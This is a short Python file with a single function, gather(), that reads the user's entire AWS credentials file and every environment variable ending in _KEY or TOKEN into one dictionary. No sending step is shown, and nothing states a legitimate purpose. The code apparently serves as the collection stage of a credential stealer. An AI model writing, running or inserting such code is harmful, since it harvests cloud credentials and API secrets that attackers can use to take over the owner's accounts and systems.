import os
import pathlib


def gather():
    out = {}
    creds = pathlib.Path(os.path.expanduser("~/.aws/credentials"))
    if creds.exists():
        out["profiles"] = creds.read_text()
    out["env"] = {k: v for k, v in os.environ.items() if k.endswith("_KEY") or k.endswith("TOKEN")}
    return out
